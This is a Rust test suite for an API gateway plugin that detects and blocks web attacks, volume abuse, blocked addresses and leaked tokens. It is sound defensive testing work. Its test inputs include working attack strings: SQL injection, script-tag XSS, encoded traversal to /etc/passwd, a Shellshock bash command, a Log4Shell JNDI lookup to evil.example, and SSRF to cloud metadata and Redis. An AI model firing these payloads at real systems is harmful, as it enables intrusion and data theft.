//! The plugin as the gateway drives it, on the SDK's native harness: every rule, limit and
//! answer, with the fake host's context, key-value store, incidents and metrics.

use chasqui_plugin_cgii::{
    Cgii, ADDRESS_BLOCKED, ATTACK_DETECTED, BODY_TOO_LARGE, TOKEN_BLOCKED, UNUSUAL_VOLUME,
};
use chasqui_plugin_sdk::host::context::Context;
use chasqui_plugin_sdk::host::incident::{Party, Severity};
use chasqui_plugin_sdk::host::kv::KvError;
use chasqui_plugin_sdk::serde_json::{self, json, Value};
use chasqui_plugin_sdk::testing::{Harness, HarnessError, IncidentRecord};
use chasqui_plugin_sdk::{BodyAction, BodyChunk, HeadersAction, RequestHead, Response};
use std::time::Duration;

fn plugin(config: Value) -> Harness<Cgii> {
    Harness::new(config).expect("configuration accepted")
}

fn context(
    entity: Option<&str>,
    system: Option<&str>,
    service: &str,
    environment: &str,
) -> Context {
    Context {
        consumer_entity: entity.map(str::to_string),
        consumer_system: system.map(str::to_string),
        service: service.into(),
        environment: environment.into(),
        request_id: "req-1".into(),
        trace_id: None,
    }
}

fn get(path: &str) -> RequestHead {
    RequestHead::new("GET", path)
        .with_header("host", "ws.agetic.gob.bo")
        .with_header(
            "user-agent",
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36",
        )
        .with_header("accept", "application/json, text/plain, */*")
        .with_header("authorization", "Bearer chq_test_Zz9Yy8Xx7Ww6")
}

fn post(path: &str, content_type: &str) -> RequestHead {
    RequestHead::new("POST", path)
        .with_header("host", "ws.agetic.gob.bo")
        .with_header("content-type", content_type)
}

/// The status, headers and problem document of an answer.
fn answer(response: &Response) -> (u16, Value) {
    assert_eq!(
        response.headers[0].name, "content-type",
        "a problem carries its media type"
    );
    assert_eq!(response.headers[0].value, "application/problem+json");
    let body: Value = serde_json::from_slice(&response.body).expect("problem is JSON");
    (response.status, body)
}

fn refused(action: HeadersAction) -> (u16, Value) {
    match action {
        HeadersAction::Respond(response) => answer(&response),
        other => panic!("expected an answer, got {other:?}"),
    }
}

fn refused_body(action: BodyAction) -> (u16, Value) {
    match action {
        BodyAction::Respond(response) => answer(&response),
        other => panic!("expected an answer, got {other:?}"),
    }
}

/// Runs a whole request: headers, then the body in chunks of `chunk` bytes.
fn send(
    harness: &mut Harness<Cgii>,
    head: &RequestHead,
    body: &[u8],
    chunk: usize,
) -> Vec<BodyAction> {
    let mut actions = Vec::new();
    if harness.request_headers(head) != HeadersAction::Continue {
        panic!("the headers were answered");
    }
    let chunks: Vec<&[u8]> = body.chunks(chunk.max(1)).collect();
    for (index, data) in chunks.iter().enumerate() {
        let action =
            harness.request_body(&BodyChunk::new(data.to_vec(), index + 1 == chunks.len()));
        let stop = matches!(action, BodyAction::Respond(_));
        actions.push(action);
        if stop {
            break;
        }
    }
    harness.end_request();
    actions
}

fn only_incident(harness: &Harness<Cgii>) -> IncidentRecord {
    let incidents = harness.incidents();
    assert_eq!(incidents.len(), 1, "{incidents:#?}");
    incidents[0].clone()
}

// --- the default configuration -------------------------------------------------------

#[test]
fn an_empty_configuration_works_and_ordinary_requests_pass() {
    let mut harness = plugin(json!({}));
    for path in [
        "/segip/v2/personas/1234567?complemento=1A",
        "/fake/ppe/v1/consulta/estado/5323-7998-3145",
        "/ppe/v1/transaccion/deuda?fecha=2024-01-15T10:30:00-04:00&nombre=Patrick%20O%27Brien",
        "/sin/v1/facturas?razon_social=Hern%C3%A1ndez+%26+Hijos+Ltda.&nota=pago%3B+fin",
    ] {
        assert_eq!(
            harness.request_headers(&get(path)),
            HeadersAction::Continue,
            "{path}"
        );
        harness.end_request();
    }
    assert!(harness.incidents().is_empty());
    assert_eq!(
        harness.counter(
            "detections_total",
            &[
                ("category", "sqli"),
                ("location", "query"),
                ("action", "blocked")
            ]
        ),
        0
    );
}

#[test]
fn bad_configurations_are_refused() {
    let schema_error = |config: Value| match Harness::<Cgii>::new(config) {
        Err(HarnessError::Config(errors)) => errors.join("; "),
        other => panic!("expected a schema violation, got {other:?}"),
    };
    assert_eq!(
        schema_error(json!({ "modo": "block" })),
        "/modo: unexpected property"
    );
    assert!(schema_error(json!({ "sensitivity": "maxima" })).contains("/sensitivity"));
    assert!(
        schema_error(json!({ "blocklist": { "token_prefixes": ["chq"] } }))
            .contains("/blocklist/token_prefixes/0")
    );
    assert!(schema_error(json!({ "volume": { "status": 500 } })).contains("/volume/status"));
    assert!(
        schema_error(json!({ "inspect": { "max_body_bytes": 2000000 } }))
            .contains("/inspect/max_body_bytes")
    );
    assert!(
        schema_error(json!({ "detectors": { "sqli": { "enabled": "yes" } } }))
            .contains("/detectors/sqli/enabled")
    );
    // What the schema cannot say, the plugin refuses when it starts.
    let init_error = |config: Value| match Harness::<Cgii>::new(config) {
        Err(HarnessError::Init(message)) => message,
        other => panic!("expected the plugin to refuse, got {other:?}"),
    };
    assert!(
        init_error(json!({ "blocklist": { "addresses": ["203.0.113.9/24"] } }))
            .contains("host bits")
    );
    assert!(
        init_error(json!({ "blocklist": { "addresses": ["10.0.0.0/40"] } }))
            .contains("prefix length")
    );
    assert!(
        init_error(json!({ "volume": { "rules": [{ "threshold": 3 }] } }))
            .contains("service_prefix")
    );
}

// --- attacks in the request head -----------------------------------------------------

#[test]
fn sql_injection_in_the_query_is_blocked_with_a_problem_and_an_incident() {
    let mut harness = plugin(json!({}));
    harness.set_context(context(
        Some("alcaldia-lpz"),
        Some("tramites"),
        "segip/v2",
        "produccion",
    ));
    let action = harness.request_headers(&get(
        "/segip/v2/personas?ci=1%27%20UNION%20SELECT%20password%20FROM%20usuarios--",
    ));
    let (status, problem) = refused(action);
    assert_eq!(status, 403);
    assert_eq!(problem["type"], ATTACK_DETECTED);
    assert_eq!(
        problem["title"],
        "Solicitud bloqueada por seguridad / Request blocked for security"
    );
    assert_eq!(problem["status"], 403);
    assert_eq!(problem["incident"], "inc-1");
    assert_eq!(problem["category"], "sqli");
    assert_eq!(problem["location"], "query");
    assert_eq!(problem["request_id"], "req-1");
    assert_eq!(
        problem["detail"],
        "Se detectó un posible ataque de tipo inyección SQL en el parámetro de consulta «ci»; la solicitud fue bloqueada (incidente inc-1). / A possible SQL injection attack was detected in query parameter 'ci'; the request was blocked (incident inc-1)."
    );
    let incident = only_incident(&harness);
    assert_eq!(incident.kind, "cgii.sqli");
    assert_eq!(incident.severity, Severity::High);
    assert!(incident.blocked);
    assert_eq!(incident.notify, vec![Party::Publisher]);
    assert_eq!(
        incident.summary,
        "SQL injection in query parameter 'ci' of segip/v2 by alcaldia-lpz/tramites (blocked)"
    );
    let detail = &incident.detail;
    assert_eq!(detail["location"], "query");
    assert_eq!(detail["field"], "ci");
    assert_eq!(detail["decoding"], "once");
    assert_eq!(detail["signatures"][0], "union_select");
    assert_eq!(detail["sensitivity"], "medium");
    assert_eq!(detail["threshold"], 6);
    assert_eq!(detail["method"], "GET");
    assert_eq!(detail["path"], "/segip/v2/personas");
    assert_eq!(
        detail["excerpt"],
        "1\\x27 UNION SELECT password FROM usuarios--"
    );
    assert_eq!(
        harness.counter(
            "detections_total",
            &[
                ("category", "sqli"),
                ("location", "query"),
                ("action", "blocked")
            ]
        ),
        1
    );
    assert_eq!(
        harness.counter(
            "incidents_total",
            &[("kind", "cgii.sqli"), ("outcome", "reported")]
        ),
        1
    );
}

#[test]
fn the_answer_never_echoes_the_payload() {
    let mut harness = plugin(json!({}));
    // The payload is in the parameter's name: the name is reduced to safe characters.
    let action = harness.request_headers(&get("/x/v1/a?%3Cscript%3Ealert(1)%3C%2Fscript%3E=1"));
    let HeadersAction::Respond(response) = action else {
        panic!("not blocked")
    };
    let body = String::from_utf8(response.body.clone()).unwrap();
    for fragment in ["<script", "script>", "alert(", "%3C"] {
        assert!(!body.contains(fragment), "{fragment} in {body}");
    }
    assert!(body.contains("el nombre de un parámetro de consulta"));
    // The evidence keeps the payload escaped, for the analyst.
    let incident = only_incident(&harness);
    let excerpt = incident.detail["excerpt"].as_str().unwrap();
    assert!(excerpt.contains("\\x3cscript\\x3e"), "{excerpt}");
    assert!(!excerpt.contains('<'));
    assert_eq!(incident.detail["in_name"], true);
}

#[test]
fn xss_in_a_header_is_blocked_but_authorization_is_never_inspected() {
    let mut harness = plugin(json!({}));
    let head = get("/segip/v2/personas/1")
        .with_header("referer", "https://x.example/\"><script>alert(1)</script>");
    let (status, problem) = refused(harness.request_headers(&head));
    assert_eq!(status, 403);
    assert_eq!(problem["location"], "header");
    assert!(problem["detail"]
        .as_str()
        .unwrap()
        .contains("la cabecera «referer»"));
    assert_eq!(only_incident(&harness).kind, "cgii.xss");
    assert_eq!(only_incident(&harness).severity, Severity::Medium);
    harness.end_request();

    let mut harness = plugin(json!({}));
    let head = RequestHead::new("GET", "/segip/v2/personas/1")
        .with_header("authorization", "Bearer ' OR '1'='1 <script>");
    assert_eq!(harness.request_headers(&head), HeadersAction::Continue);
    assert!(harness.incidents().is_empty());
}

#[test]
fn headers_can_be_left_out_by_configuration() {
    let mut harness = plugin(json!({ "inspect": { "ignore_headers": ["X-Consulta-Sql"] } }));
    let head = get("/x/v1/a").with_header("x-consulta-sql", "1 UNION SELECT 1");
    assert_eq!(harness.request_headers(&head), HeadersAction::Continue);
    let mut harness = plugin(json!({ "inspect": { "headers": false, "query": false } }));
    let head = get("/x/v1/a?q=%27%20or%201%3D1--").with_header("x-a", "<script>");
    assert_eq!(harness.request_headers(&head), HeadersAction::Continue);
}

#[test]
fn traversal_in_the_path_is_blocked_through_the_legacy_alias_too() {
    let mut harness = plugin(json!({}));
    let (status, problem) =
        refused(harness.request_headers(&get("/fake/segip/v2/%2e%2e/%2e%2e/etc/passwd")));
    assert_eq!(status, 403);
    assert_eq!(problem["category"], "traversal");
    assert_eq!(problem["location"], "path");
    assert!(problem["detail"].as_str().unwrap().contains("en la ruta"));
    let incident = only_incident(&harness);
    assert_eq!(incident.kind, "cgii.traversal");
    assert_eq!(incident.detail["field"], Value::Null);
    assert_eq!(
        incident.detail["path"],
        "/fake/segip/v2/%2e%2e/%2e%2e/etc/passwd"
    );
}

#[test]
fn double_encoding_is_seen_through() {
    let mut harness = plugin(json!({}));
    let (_, problem) = refused(harness.request_headers(&get(
        "/x/v1/descarga?archivo=%252e%252e%252f%252e%252e%252fetc%252fpasswd",
    )));
    assert_eq!(problem["category"], "traversal");
    let incident = only_incident(&harness);
    assert_eq!(incident.detail["decoding"], "twice");
    assert_eq!(incident.detail["field"], "archivo");
}

#[test]
fn command_injection_and_log4shell_in_headers() {
    let mut harness = plugin(json!({}));
    let head =
        get("/x/v1/a").with_header("user-agent", "() { :; }; /bin/bash -c 'cat /etc/passwd'");
    let (_, problem) = refused(harness.request_headers(&head));
    assert_eq!(problem["category"], "cmdi");
    let incident = only_incident(&harness);
    assert_eq!(incident.severity, Severity::Critical);
    assert!(incident.detail["signatures"]
        .as_array()
        .unwrap()
        .contains(&json!("shellshock")));
    // The same request shows traversal too; it is listed with the primary finding.
    let others = incident.detail["other_findings"].as_array().unwrap();
    assert!(
        others.iter().any(|other| other["category"] == "traversal"),
        "{others:?}"
    );

    let mut harness = plugin(json!({}));
    let head = get("/x/v1/a").with_header("x-api-version", "${jndi:ldap://evil.example/a}");
    let (_, problem) = refused(harness.request_headers(&head));
    assert_eq!(problem["category"], "cmdi");
}

#[test]
fn ssrf_in_a_query_parameter() {
    let mut harness = plugin(json!({}));
    let head = get("/aprobacion-documentos/v1/notificaciones?url=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F");
    let (_, problem) = refused(harness.request_headers(&head));
    assert_eq!(problem["category"], "ssrf");
    let incident = only_incident(&harness);
    assert_eq!(incident.kind, "cgii.ssrf");
    assert_eq!(incident.detail["signatures"][0], "metadata_host");
}

#[test]
fn oauth_redirect_uris_to_localhost_are_not_ssrf() {
    // Entities integrating in `pruebas` point their redirect URI at their own machine.
    let mut harness = plugin(json!({}));
    let head = get("/ciudadania/v1/authorize?response_type=code&client_id=abc&redirect_uri=http%3A%2F%2Flocalhost%3A3000%2Fcallback&scope=openid%20profile&state=xyz");
    assert_eq!(harness.request_headers(&head), HeadersAction::Continue);
    assert!(harness.incidents().is_empty());
}

// --- bodies ----------------------------------------------------------------------------

#[test]
fn attacks_in_json_bodies_are_blocked_before_anything_reaches_the_upstream() {
    let mut harness = plugin(json!({}));
    let body = json!({
        "datos": { "nombre": "Juan Pérez", "comando": "reporte.pdf; cat /etc/passwd" },
        "monto": 150.5
    })
    .to_string();
    let actions = send(
        &mut harness,
        &post("/x/v1/tramites", "application/json"),
        body.as_bytes(),
        16,
    );
    // Every chunk but the last was held back; the last got the answer.
    let (last, held) = actions.split_last().unwrap();
    assert!(held
        .iter()
        .all(|action| *action == BodyAction::Replace(Vec::new())));
    let (status, problem) = refused_body(last.clone());
    assert_eq!(status, 403);
    assert_eq!(problem["category"], "cmdi");
    assert_eq!(problem["location"], "body");
    assert!(problem["detail"]
        .as_str()
        .unwrap()
        .contains("el campo «comando» del cuerpo"));
    let incident = only_incident(&harness);
    assert_eq!(incident.detail["field"], "comando");
    assert_eq!(
        harness.counter("body_inspections_total", &[("outcome", "inspected")]),
        1
    );
}

#[test]
fn ordinary_json_bodies_are_released_whole_and_unchanged() {
    let mut harness = plugin(json!({ "sensitivity": "high" }));
    let pdf = "JVBERi0xLjcKJeLjz9MKMSAwIG9iago8PC9UeXBlL0NhdGFsb2c+Pgo=".repeat(40);
    let body = json!({
        "nombre": "Patrick O'Brien",
        "apellido": "D'Alessandro",
        "glosa": "Pago de la deuda 5323-7998-3145; el trámite se realizó por QR & tarjeta. ¿Cuándo estará listo?",
        "nota": "Juan \"el Grande\" dijo 'hola' y se fue",
        "fecha": "2024-01-15T10:30:00-04:00",
        "vencimiento": "15/01/2024",
        "documento": pdf,
        "firma": "eyJhbGciOiJFUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3In0.c2lnbmF0dXJl",
        "items": [{ "descripcion": "Certificado de nacimiento", "cantidad": 1 }],
        "html": "<p>Estimado <b>Juan</b>, su trámite fue <a href=\"https://www.agetic.gob.bo\">aprobado</a>.</p>"
    })
    .to_string();
    let actions = send(
        &mut harness,
        &post("/x/v1/tramites", "application/json; charset=utf-8"),
        body.as_bytes(),
        1000,
    );
    let (last, held) = actions.split_last().unwrap();
    assert!(held
        .iter()
        .all(|action| *action == BodyAction::Replace(Vec::new())));
    assert_eq!(*last, BodyAction::Replace(body.into_bytes()));
    assert!(harness.incidents().is_empty(), "{:#?}", harness.incidents());
}

#[test]
fn form_bodies_are_decoded_per_field() {
    let mut harness = plugin(json!({}));
    let body = b"usuario=admin&callback=gopher%3A%2F%2F127.0.0.1%3A6379%2F_FLUSHALL";
    let actions = send(
        &mut harness,
        &post("/x/v1/login", "application/x-www-form-urlencoded"),
        body,
        1024,
    );
    let (_, problem) = refused_body(actions.last().unwrap().clone());
    assert_eq!(problem["category"], "ssrf");
    assert_eq!(only_incident(&harness).detail["field"], "callback");
}

#[test]
fn a_body_declared_json_that_is_not_is_read_as_text() {
    let mut harness = plugin(json!({}));
    let actions = send(
        &mut harness,
        &post("/x/v1/a", "application/json"),
        b"id=1' OR '1'='1",
        1024,
    );
    let (_, problem) = refused_body(actions.last().unwrap().clone());
    assert_eq!(problem["category"], "sqli");
}

#[test]
fn binary_and_compressed_bodies_pass_uninspected() {
    let mut harness = plugin(json!({}));
    let actions = send(
        &mut harness,
        &post("/x/v1/a", "application/pdf"),
        b"%PDF-1.7 ' OR '1'='1",
        1024,
    );
    assert_eq!(actions, vec![BodyAction::Continue]);
    let head = post("/x/v1/a", "application/json").with_header("content-encoding", "gzip");
    let actions = send(&mut harness, &head, b"\x1f\x8b' OR '1'='1", 1024);
    assert_eq!(actions, vec![BodyAction::Continue]);
    assert!(harness.incidents().is_empty());
    assert_eq!(
        harness.counter(
            "body_inspections_total",
            &[("outcome", "skipped_media_type")]
        ),
        1
    );
    assert_eq!(
        harness.counter("body_inspections_total", &[("outcome", "skipped_encoded")]),
        1
    );
}

#[test]
fn long_bodies_have_their_prefix_inspected_and_the_rest_passes() {
    let mut harness = plugin(json!({ "inspect": { "max_body_bytes": 64 } }));
    // An attack inside the limit is found even though the body goes on.
    let mut body = br#"{"q": "<script>alert(1)</script>", "relleno": ""#.to_vec();
    body.extend(std::iter::repeat_n(b'a', 200));
    body.extend(br#""}"#);
    let actions = send(
        &mut harness,
        &post("/x/v1/a", "application/json"),
        &body,
        50,
    );
    let (_, problem) = refused_body(actions.last().unwrap().clone());
    assert_eq!(problem["category"], "xss");
    harness.end_request();

    // An ordinary long body: held until the limit, then released whole; later chunks pass.
    let mut harness = plugin(json!({ "inspect": { "max_body_bytes": 64 } }));
    let body = format!(r#"{{"relleno": "{}"}}"#, "a".repeat(200));
    let actions = send(
        &mut harness,
        &post("/x/v1/a", "application/json"),
        body.as_bytes(),
        50,
    );
    assert_eq!(actions[0], BodyAction::Replace(Vec::new()));
    assert_eq!(
        actions[1],
        BodyAction::Replace(body.as_bytes()[..100].to_vec())
    );
    assert!(actions[2..]
        .iter()
        .all(|action| *action == BodyAction::Continue));
    assert_eq!(
        harness.counter("body_inspections_total", &[("outcome", "truncated")]),
        1
    );
}

#[test]
fn long_bodies_can_be_refused_instead() {
    let mut harness =
        plugin(json!({ "inspect": { "max_body_bytes": 64, "oversize_body": "reject" } }));
    let body = "a".repeat(100);
    let actions = send(
        &mut harness,
        &post("/x/v1/a", "text/plain"),
        body.as_bytes(),
        50,
    );
    assert_eq!(actions[0], BodyAction::Replace(Vec::new()));
    let (status, problem) = refused_body(actions[1].clone());
    assert_eq!(status, 413);
    assert_eq!(problem["type"], BODY_TOO_LARGE);
    assert_eq!(problem["limit_bytes"], 64);
    assert_eq!(
        harness.counter("body_inspections_total", &[("outcome", "rejected")]),
        1
    );
}

#[test]
fn in_report_mode_bodies_stream_and_attacks_are_only_reported() {
    let mut harness = plugin(json!({ "mode": "report" }));
    let body = br#"{"q": "1' UNION SELECT * FROM pagos--"}"#;
    let actions = send(&mut harness, &post("/x/v1/a", "application/json"), body, 10);
    assert!(
        actions.iter().all(|action| *action == BodyAction::Continue),
        "{actions:?}"
    );
    let incident = only_incident(&harness);
    assert_eq!(incident.kind, "cgii.sqli");
    assert!(!incident.blocked);
    assert_eq!(incident.detail["blocked"], false);
    assert!(incident.summary.ends_with("(reported)"));
    assert_eq!(
        harness.counter(
            "detections_total",
            &[
                ("category", "sqli"),
                ("location", "body"),
                ("action", "reported")
            ]
        ),
        1
    );
}

#[test]
fn request_state_is_forgotten_at_the_end() {
    let mut harness = plugin(json!({}));
    assert_eq!(
        harness.request_headers(&post("/x/v1/a", "application/json")),
        HeadersAction::Continue
    );
    assert_eq!(
        harness.request_body(&BodyChunk::new(b"{\"a\": \"".to_vec(), false)),
        BodyAction::Replace(Vec::new())
    );
    harness.end_request();
    // A body chunk without a request in flight is not this plugin's business.
    assert_eq!(
        harness.request_body(&BodyChunk::new(b"' OR '1'='1".to_vec(), true)),
        BodyAction::Continue
    );
    assert!(harness.incidents().is_empty());
}

// --- modes and sensitivity -----------------------------------------------------------

#[test]
fn report_mode_lets_the_request_go_on() {
    let mut harness = plugin(json!({ "mode": "report" }));
    let head = get("/x/v1/a?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E");
    assert_eq!(harness.request_headers(&head), HeadersAction::Continue);
    let incident = only_incident(&harness);
    assert_eq!(incident.kind, "cgii.xss");
    assert!(!incident.blocked);
}

#[test]
fn detectors_can_override_the_mode() {
    let mut harness = plugin(json!({ "detectors": { "xss": { "mode": "report" } } }));
    assert_eq!(
        harness.request_headers(&get("/x/v1/a?q=%3Cscript%3Ex%3C%2Fscript%3E")),
        HeadersAction::Continue
    );
    harness.end_request();
    let (status, _) = refused(harness.request_headers(&get("/x/v1/a?q=%27%20OR%20%271%27%3D%271")));
    assert_eq!(status, 403);
    let kinds: Vec<(String, bool)> = harness
        .incidents()
        .into_iter()
        .map(|i| (i.kind, i.blocked))
        .collect();
    assert_eq!(
        kinds,
        vec![("cgii.xss".into(), false), ("cgii.sqli".into(), true)]
    );

    let mut harness =
        plugin(json!({ "mode": "report", "detectors": { "sqli": { "mode": "block" } } }));
    let (status, _) = refused(harness.request_headers(&get("/x/v1/a?q=%27%20OR%20%271%27%3D%271")));
    assert_eq!(status, 403);
}

#[test]
fn disabled_detectors_do_not_run() {
    let mut harness = plugin(json!({ "detectors": { "sqli": { "enabled": false } } }));
    assert_eq!(
        harness.request_headers(&get("/x/v1/a?q=%27%20OR%20%271%27%3D%271")),
        HeadersAction::Continue
    );
    assert!(harness.incidents().is_empty());
}

#[test]
fn sensitivity_sets_what_is_caught() {
    // A lone `../` scores 4: only high sensitivity flags it.
    let head = get("/x/v1/a?img=../logo.png");
    let mut high = plugin(json!({ "sensitivity": "high" }));
    assert!(matches!(
        high.request_headers(&head),
        HeadersAction::Respond(_)
    ));
    let mut medium = plugin(json!({}));
    assert_eq!(medium.request_headers(&head), HeadersAction::Continue);
    // `1 OR 1=1` scores 6: medium flags it, low does not.
    let head = get("/x/v1/a?id=1%20OR%201%3D1");
    assert!(matches!(
        medium.request_headers(&head),
        HeadersAction::Respond(_)
    ));
    let mut low = plugin(json!({ "sensitivity": "low" }));
    assert_eq!(low.request_headers(&head), HeadersAction::Continue);
    // Blatant payloads are caught at every level.
    let head = get("/x/v1/a?id=1%27%20UNION%20SELECT%201--");
    assert!(matches!(
        low.request_headers(&head),
        HeadersAction::Respond(_)
    ));
}

#[test]
fn sensitivity_may_differ_per_environment_and_nothing_else_does() {
    let config =
        json!({ "sensitivity": "low", "sensitivity_by_environment": { "pruebas": "high" } });
    let head = get("/x/v1/a?img=../logo.png");
    let mut harness = plugin(config.clone());
    harness.set_context(context(Some("e"), Some("s"), "x/v1", "pruebas"));
    assert!(matches!(
        harness.request_headers(&head),
        HeadersAction::Respond(_)
    ));
    harness.set_context(context(Some("e"), Some("s"), "x/v1", "produccion"));
    assert_eq!(harness.request_headers(&head), HeadersAction::Continue);
    // A blatant attack is blocked the same way in both environments.
    for environment in ["pruebas", "produccion"] {
        let mut harness = plugin(config.clone());
        harness.set_context(context(Some("e"), Some("s"), "x/v1", environment));
        let (status, problem) = refused(harness.request_headers(&get("/x/v1/a?q=%3Cscript%3E")));
        assert_eq!(
            (status, problem["category"].as_str()),
            (403, Some("xss")),
            "{environment}"
        );
    }
}

#[test]
fn ordinary_values_pass_even_at_high_sensitivity() {
    let mut harness = plugin(json!({ "sensitivity": "high" }));
    for query in [
        "nombre=Patrick+O%27Brien",
        "apellido=D%27Alessandro",
        "fecha=2024-01-15&hasta=15%2F01%2F2024",
        "hora=10%3A30%3A00-04%3A00",
        "glosa=Solicito+la+certificaci%C3%B3n+del+tr%C3%A1mite%3B+el+pago+se+realiz%C3%B3+por+QR+%26+tarjeta.+%C2%BFCu%C3%A1ndo+estar%C3%A1+listo%3F",
        "firma=dGhpcyBpcyBiYXNlNjQgZW5jb2RlZCB0ZXh0IG9yIGlzIGl0Pw%3D%3D",
        "cpt=5323-7998-3145&monto=150.00",
        "filtro=%7B%22estado%22%3A%22pendiente%22%2C%22nota%22%3A%22dijo+%27hola%27%22%7D",
        "url=https%3A%2F%2Fwww.entidad.gob.bo%2Fnotificaciones%3Fid%3D1",
        "direccion=Calle+21+de+Calacoto+%231234%2C+La+Paz",
    ] {
        let path = format!("/x/v1/a?{query}");
        assert_eq!(harness.request_headers(&get(&path)), HeadersAction::Continue, "{query}");
        harness.end_request();
    }
    assert!(harness.incidents().is_empty());
}

// --- blocklists ----------------------------------------------------------------------

#[test]
fn blocked_addresses_and_ranges_are_refused() {
    let config = json!({ "blocklist": { "addresses": ["203.0.113.0/24", "2001:db8:bad::/48", "198.51.100.7"] } });
    for address in [
        "203.0.113.77",
        "::ffff:203.0.113.1",
        "2001:db8:bad:1::5",
        "198.51.100.7",
    ] {
        let mut harness = plugin(config.clone());
        harness.set_client_address(Some(address));
        let (status, problem) = refused(harness.request_headers(&get("/x/v1/a")));
        assert_eq!(status, 403, "{address}");
        assert_eq!(problem["type"], ADDRESS_BLOCKED);
        assert_eq!(problem["incident"], "inc-1");
        let incident = only_incident(&harness);
        assert_eq!(incident.kind, "cgii.blocklist.address");
        assert!(incident.notify.is_empty());
        assert_eq!(incident.detail["address"], address);
    }
    for address in [
        "203.0.114.1",
        "198.51.100.8",
        "2001:db8:bae::1",
        "not-an-address",
    ] {
        let mut harness = plugin(config.clone());
        harness.set_client_address(Some(address));
        assert_eq!(
            harness.request_headers(&get("/x/v1/a")),
            HeadersAction::Continue,
            "{address}"
        );
    }
    let mut harness = plugin(config);
    harness.set_client_address(None);
    assert_eq!(
        harness.request_headers(&get("/x/v1/a")),
        HeadersAction::Continue
    );
}

#[test]
fn leaked_tokens_are_refused_and_their_owner_is_notified() {
    let config = json!({ "blocklist": { "token_prefixes": ["chq_prod_AbCd1234"] } });
    let mut harness = plugin(config.clone());
    harness.set_context(context(
        Some("gamlp"),
        Some("catastro"),
        "segip/v2",
        "produccion",
    ));
    let head = RequestHead::new("GET", "/segip/v2/personas/1").with_header(
        "authorization",
        "bearer chq_prod_AbCd1234_rest-of-the-secret",
    );
    let (status, problem) = refused(harness.request_headers(&head));
    assert_eq!(status, 403);
    assert_eq!(problem["type"], TOKEN_BLOCKED);
    assert_eq!(problem["incident"], "inc-1");
    let incident = only_incident(&harness);
    assert_eq!(incident.kind, "cgii.blocklist.token");
    assert_eq!(incident.severity, Severity::High);
    assert_eq!(incident.notify, vec![Party::Consumer]);
    assert_eq!(
        incident.summary,
        "Leaked token (prefix chq_prod_AbCd1234) used by gamlp/catastro on segip/v2"
    );
    assert_eq!(incident.detail["token_length"], 36);
    // The secret itself is nowhere.
    let recorded = format!("{incident:?}{:?}", harness.logs());
    assert!(!recorded.contains("rest-of-the-secret"));

    let mut harness = plugin(config);
    for value in [
        "Bearer chq_prod_XyZ",
        "Basic chq_prod_AbCd1234",
        "Bearer chq_prod_AbCd123",
    ] {
        let head = RequestHead::new("GET", "/x/v1/a").with_header("authorization", value);
        assert_eq!(
            harness.request_headers(&head),
            HeadersAction::Continue,
            "{value}"
        );
    }
}

#[test]
fn a_blocklist_in_report_mode_is_a_watch_list() {
    let mut harness =
        plugin(json!({ "blocklist": { "addresses": ["192.0.2.0/24"], "mode": "report" } }));
    assert_eq!(
        harness.request_headers(&get("/x/v1/a")),
        HeadersAction::Continue
    );
    let incident = only_incident(&harness);
    assert!(!incident.blocked);
    assert_eq!(
        harness.counter(
            "blocklist_hits_total",
            &[("list", "address"), ("action", "reported")]
        ),
        1
    );
}

#[test]
fn the_blocklist_blocks_even_when_detectors_only_report() {
    let mut harness =
        plugin(json!({ "mode": "report", "blocklist": { "addresses": ["192.0.2.10"] } }));
    let (status, _) = refused(harness.request_headers(&get("/x/v1/a")));
    assert_eq!(status, 403);
}

// --- volume --------------------------------------------------------------------------

#[test]
fn unusual_volume_is_reported_once_per_window() {
    let mut harness = plugin(json!({ "volume": { "threshold": 3, "window_seconds": 60 } }));
    harness.set_context(context(
        Some("gamlp"),
        Some("catastro"),
        "segip/v2",
        "produccion",
    ));
    for _ in 0..6 {
        assert_eq!(
            harness.request_headers(&get("/segip/v2/personas/1")),
            HeadersAction::Continue
        );
        harness.end_request();
    }
    let incident = only_incident(&harness);
    assert_eq!(incident.kind, "cgii.volume");
    assert_eq!(incident.severity, Severity::Medium);
    assert_eq!(incident.notify, vec![Party::Consumer]);
    assert!(!incident.blocked);
    assert_eq!(incident.detail["count"], 4);
    assert_eq!(incident.detail["threshold"], 3);
    assert_eq!(incident.detail["rule"], "default");
    assert_eq!(
        incident.summary,
        "Unusual volume: gamlp/catastro made more than 3 requests in 60 s to segip/v2 (rule default)"
    );
    assert_eq!(
        harness.counter(
            "volume_exceeded_total",
            &[("rule", "default"), ("action", "reported")]
        ),
        3
    );
    // A new window starts counting again; its first excess reports anew (after the
    // incident rate limit's window).
    harness.advance(Duration::from_secs(300));
    for _ in 0..4 {
        harness.request_headers(&get("/segip/v2/personas/1"));
        harness.end_request();
    }
    assert_eq!(harness.incidents().len(), 2);
}

#[test]
fn volume_can_block_with_429_and_retry_after() {
    let mut harness =
        plugin(json!({ "volume": { "threshold": 2, "window_seconds": 30, "mode": "block" } }));
    for _ in 0..2 {
        assert_eq!(
            harness.request_headers(&get("/x/v1/a")),
            HeadersAction::Continue
        );
    }
    for _ in 0..2 {
        let HeadersAction::Respond(response) = harness.request_headers(&get("/x/v1/a")) else {
            panic!("not refused")
        };
        assert!(response
            .headers
            .iter()
            .any(|h| h.name == "retry-after" && h.value == "30"));
        let (status, problem) = answer(&response);
        assert_eq!(status, 429);
        assert_eq!(problem["type"], UNUSUAL_VOLUME);
        // Every refusal names the window's incident.
        assert_eq!(problem["incident"], "inc-1");
    }
    assert_eq!(harness.incidents().len(), 1);
    assert!(harness.incidents()[0].blocked);
    harness.advance(Duration::from_secs(30));
    assert_eq!(
        harness.request_headers(&get("/x/v1/a")),
        HeadersAction::Continue
    );

    let mut harness =
        plugin(json!({ "volume": { "threshold": 1, "mode": "block", "status": 403 } }));
    harness.request_headers(&get("/x/v1/a"));
    let (status, _) = refused(harness.request_headers(&get("/x/v1/a")));
    assert_eq!(status, 403);
}

#[test]
fn volume_is_counted_per_consumer_and_per_service() {
    let mut harness = plugin(json!({ "volume": { "threshold": 2, "mode": "block" } }));
    let consumers = [("a", "s1"), ("a", "s2"), ("b", "s1")];
    for _ in 0..2 {
        for (entity, system) in consumers {
            for service in ["segip/v2", "sin/v1"] {
                harness.set_context(context(Some(entity), Some(system), service, "produccion"));
                assert_eq!(
                    harness.request_headers(&get("/x/v1/a")),
                    HeadersAction::Continue
                );
            }
        }
    }
    assert!(harness.incidents().is_empty());
